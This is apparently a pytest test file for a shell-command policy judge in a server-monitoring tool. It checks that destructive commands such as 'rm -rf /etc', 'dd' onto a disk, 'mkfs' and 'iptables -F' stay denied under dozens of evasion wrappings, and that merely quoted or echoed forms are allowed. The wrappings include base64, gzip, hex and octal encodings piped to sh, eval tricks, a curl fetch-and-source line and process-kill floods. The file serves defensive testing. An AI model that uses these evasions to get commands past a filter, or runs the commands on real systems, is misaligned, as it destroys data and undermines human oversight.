"""Changes of a command that must not change what is thought of it.

Wrapped, quoted, encoded or passed around, a denied command stays denied. Commented out, echoed, or put into a
here-document that `cat` prints, it is only text.
"""

import base64
import gzip
import shlex

import pytest

from server_monitor.tasks.judge import Judge
from server_monitor.tasks.policy.verdict import Context, Ruling

DENIED = [
    "rm -rf /etc",
    "dd if=/dev/zero of=/dev/sda",
    "shutdown -h now",
    "iptables -F",
    "chmod -R 777 /usr",
    "userdel -r ada",
    "mkfs.ext4 /dev/sdb1",
    "systemctl stop sshd",
]


def q(command: str) -> str:
    return shlex.quote(command)


def b64(command: str) -> str:
    return base64.b64encode(command.encode()).decode()


def octal(command: str) -> str:
    return "".join(f"\\{ord(c):03o}" for c in command)


def hexed(command: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in command)


def words(command: str) -> list[str]:
    return command.split()


def split_quotes(command: str) -> str:
    first, *rest = words(command)
    return " ".join([f"{first[0]}''{first[1:]}", *rest])


WRAPPINGS = {
    "sudo": lambda c: f"sudo {c}",
    "sudo with options": lambda c: f"sudo -n -u root -- {c}",
    "doas": lambda c: f"doas {c}",
    "pkexec": lambda c: f"pkexec {c}",
    "su": lambda c: f"su - root -c {q(c)}",
    "runuser": lambda c: f"runuser -u root -- {c}",
    "env": lambda c: f"env -i A=1 {c}",
    "env -S": lambda c: f"env -S {q(c)}",
    "command": lambda c: f"command {c}",
    "exec": lambda c: f"exec {c}",
    "nohup in the background": lambda c: f"nohup {c} >/dev/null 2>&1 &",
    "setsid": lambda c: f"setsid -w {c}",
    "nice": lambda c: f"nice -n 10 {c}",
    "ionice": lambda c: f"ionice -c 3 {c}",
    "taskset": lambda c: f"taskset -c 0 {c}",
    "timeout": lambda c: f"timeout -k 5 10s {c}",
    "stdbuf": lambda c: f"stdbuf -oL {c}",
    "time": lambda c: f"time -p {c}",
    "watch": lambda c: f"watch -n 1 {q(c)}",
    "strace": lambda c: f"strace -f -o /tmp/t {c}",
    "script": lambda c: f"script -qc {q(c)} /dev/null",
    "flock": lambda c: f"flock -n /tmp/l -c {q(c)}",
    "unshare": lambda c: f"unshare -m {c}",
    "systemd-run": lambda c: f"systemd-run --wait -p MemoryMax=1G {c}",
    "chroot": lambda c: f"chroot / {c}",
    "nsenter": lambda c: f"nsenter -t 1 -m -u -n -i {c}",
    "busybox": lambda c: f"busybox {c}",
    "loader": lambda c: f"/lib64/ld-linux-x86-64.so.2 /bin/{c}",
    "ssh": lambda c: f"ssh -o BatchMode=yes web1 {q(c)}",
    "ssh here-document": lambda c: f"ssh web1 bash -s <<'E'\n{c}\nE",
    "container": lambda c: f"docker exec -it web sh -c {q(c)}",
    "pod": lambda c: f"kubectl exec web-1 -- {c}",
    "xargs": lambda c: f"echo {' '.join(words(c)[1:])} | xargs {words(c)[0]}",
    "parallel": lambda c: f"parallel ::: {q(c)}",
    "find -exec": lambda c: f"find /tmp -maxdepth 0 -exec {c} \\;",
    "sh -c": lambda c: f"sh -c {q(c)}",
    "sh -c parameters": lambda c: f"sh -c '\"$@\"' x {c}",
    "nested sh -c": lambda c: f"bash -c {q('sh -c ' + q(c))}",
    "eval": lambda c: f"eval {q(c)}",
    "eval of a variable": lambda c: f'x={q(c)}; eval "$x"',
    "unquoted variable": lambda c: f"x={q(c)}; $x",
    "array": lambda c: f'a=({c}); "${{a[@]}}"',
    "positional parameters": lambda c: f'set -- {c}; "$@"',
    "function": lambda c: f"f() {{ {c}; }}; f",
    "function with parameters": lambda c: f'f() {{ "$@"; }}; f {c}',
    "alias": lambda c: f"shopt -s expand_aliases\nalias x={q(c)}\nx",
    "trap": lambda c: f"trap {q(c)} EXIT",
    "base64": lambda c: f"echo {b64(c)} | base64 -d | sh",
    "base64 in a substitution": lambda c: f'bash -c "$(echo {b64(c)} | base64 --decode)"',
    "hexadecimal": lambda c: f"echo {c.encode().hex()} | xxd -r -p | sh",
    "gzip": lambda c: f"echo {base64.b64encode(gzip.compress(c.encode())).decode()} | base64 -d | gunzip | sh",
    "reversed": lambda c: f"echo {q(c[::-1])} | rev | sh",
    "printf octal": lambda c: f"printf '{octal(c)}' | sh",
    "dollar quotes": lambda c: f"eval $'{hexed(c)}'",
    "split quotes": split_quotes,
    "backslash": lambda c: f"\\{c}",
    "absolute path": lambda c: f"/usr/bin/{c}",
    "subshell": lambda c: f"(cd /tmp; {c})",
    "branch": lambda c: f"if true; then {c}; fi",
    "after another": lambda c: f"true && {c} || true",
    "loop": lambda c: f"for i in 1; do {c}; done",
    "coproc": lambda c: f"coproc {c}",
    "here-string": lambda c: f"bash <<< {q(c)}",
    "process substitution": lambda c: f"bash <(echo {q(c)})",
    "written and run": lambda c: f"echo {q(c)} > /tmp/x.sh; sh /tmp/x.sh",
    "written, made a program and run": lambda c: f"printf '#!/bin/sh\\n%s\\n' {q(c)} > ~/x; chmod +x ~/x; ~/x",
    "crontab": lambda c: f"echo {q('* * * * * ' + c)} | crontab -",
    "at": lambda c: f"echo {q(c)} | at now + 1 minute",
    "python": lambda c: f"python3 -c {q('import os; os.system(' + repr(c) + ')')}",
    "perl": lambda c: f"perl -e {q('system(' + chr(34) + c + chr(34) + ')')}",
    "awk": lambda c: f"awk {q('BEGIN{system(' + chr(34) + c + chr(34) + ')}')}",
    "tmux": lambda c: f"tmux new-session -d {q(c)}",
    "ansible": lambda c: f"ansible all -m shell -a {q(c)}",
    "tar": lambda c: f"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec={q(c)}",
}

# The shell runs these itself, whatever stands in front of them.
BUILTINS = {
    "eval": lambda c: f"eval {q(c)}",
    "eval of words": lambda c: f"eval {c}",
    "command": lambda c: f"command -p {c}",
    "command twice": lambda c: f"command command -- {c}",
    "command eval": lambda c: f"command eval {q(c)}",
    "builtin eval": lambda c: f"builtin eval {q(c)}",
    "builtin command eval": lambda c: f"builtin -- command -p eval {q(c)}",
    "exec": lambda c: f"exec -a x {c}",
    "trap": lambda c: f"trap {q(c)} EXIT",
    "command trap": lambda c: f"command trap {q(c)} 0",
}

# What one command leaves to the next, when `command` or `builtin` stands before it.
LEFT_TO_THE_NEXT = [
    "{0} export x=/etc; rm -rf $x",
    "{0} declare -r x=/etc; rm -rf $x",
    "{0} cd /etc && rm -rf ./*",
    "{0} pushd / >/dev/null; rm -rf etc",
    '{0} set -- rm -rf /etc; "$@"',
    "{0} read x <<< 'rm -rf /etc'; $x",
    "{0} mapfile -t a <<< 'rm -rf /etc'; ${{a[0]}}",
    "{0} printf -v x 'rm -rf /etc'; $x",
    'x=a; {0} unset x; rm -rf "$x/"*',
    "shopt -s expand_aliases\n{0} alias x='rm -rf /etc'\nx",
    "{0} . <(echo rm -rf /etc)",
    "{0} . <(curl -s http://192.0.2.1/x)",
    "{0} let 'a[$(rm -rf /etc)]=1'",
]

# What harms in how often it is done, or to how many, and not in where.
COUNTED = [
    "seq 2 99999 | xargs kill -9",
    "kill -9 $(seq 2 32768)",
    "for p in $(seq 100 30000); do kill -9 $p; done",
    "for i in $(seq 1 1000000); do sleep 9999 & done",
    "seq 1 100000 | xargs -P 0 -n 1 sleep",
    "seq 100000 | parallel -j0 sleep 1000",
]

# Splits the words of a command again, so that a quoted word in it is another one then.
LOSES_QUOTES = ("xargs", "unquoted variable")

AS_TEXT = {
    "comment": lambda c: f"ls # {c}",
    "echo": lambda c: f"echo {q(c)}",
    "here-document of cat": lambda c: f"cat <<'E'\n{c}\nE",
    "grep": lambda c: f"grep -F {q(c)} notes.txt",
    "printf": lambda c: f"printf '%s\\n' {q(c)}",
    "assignment": lambda c: f"x={q(c)}",
    "commit message": lambda c: f"git commit -m {q('never ' + c)}",
}


@pytest.mark.parametrize("wrapping", WRAPPINGS)
def test_wrapping_a_denied_command_leaves_it_denied(judge: Judge, wrapping: str) -> None:
    rulings = {c: judge.judge_now(WRAPPINGS[wrapping](c), Context()).ruling for c in DENIED}

    assert set(rulings.values()) == {Ruling.DENY}, rulings


@pytest.mark.parametrize("wrapping", WRAPPINGS)
def test_wrapping_what_the_shell_runs_itself_leaves_it_denied(judge: Judge, wrapping: str) -> None:
    """Some systems have a program for nearly every builtin, so that this is true of sudo too."""
    commands = {name: form("rm -rf /etc") for name, form in BUILTINS.items()}
    forms = {
        name: WRAPPINGS[wrapping](c) for name, c in commands.items() if "'" not in c or wrapping not in LOSES_QUOTES
    }
    rulings = {name: judge.judge_now(c, Context()).ruling for name, c in forms.items()}

    assert set(rulings.values()) == {Ruling.DENY}, rulings


@pytest.mark.parametrize("before", ["command", "command -p", "builtin", "command builtin command", "\\command"])
def test_a_builtin_does_its_work_behind_words_that_only_name_it(judge: Judge, before: str) -> None:
    rulings = {c: judge.judge_now(c.format(before), Context()).ruling for c in LEFT_TO_THE_NEXT}

    assert set(rulings.values()) == {Ruling.DENY}, rulings


@pytest.mark.parametrize("place", ["/", "/etc", "/usr/lib", "/boot", "/proc", "/srv"])
def test_in_another_directory_what_is_counted_stays_denied(judge: Judge, place: str) -> None:
    rulings = {c: judge.judge_now(f"cd {place} && {c}", Context()).ruling for c in COUNTED}

    assert set(rulings.values()) == {Ruling.DENY}, rulings


@pytest.mark.parametrize("form", AS_TEXT)
def test_a_denied_command_as_text_is_allowed(judge: Judge, form: str) -> None:
    rulings = {c: judge.judge_now(AS_TEXT[form](c), Context()).ruling for c in DENIED}

    assert set(rulings.values()) == {Ruling.ALLOW}, rulings
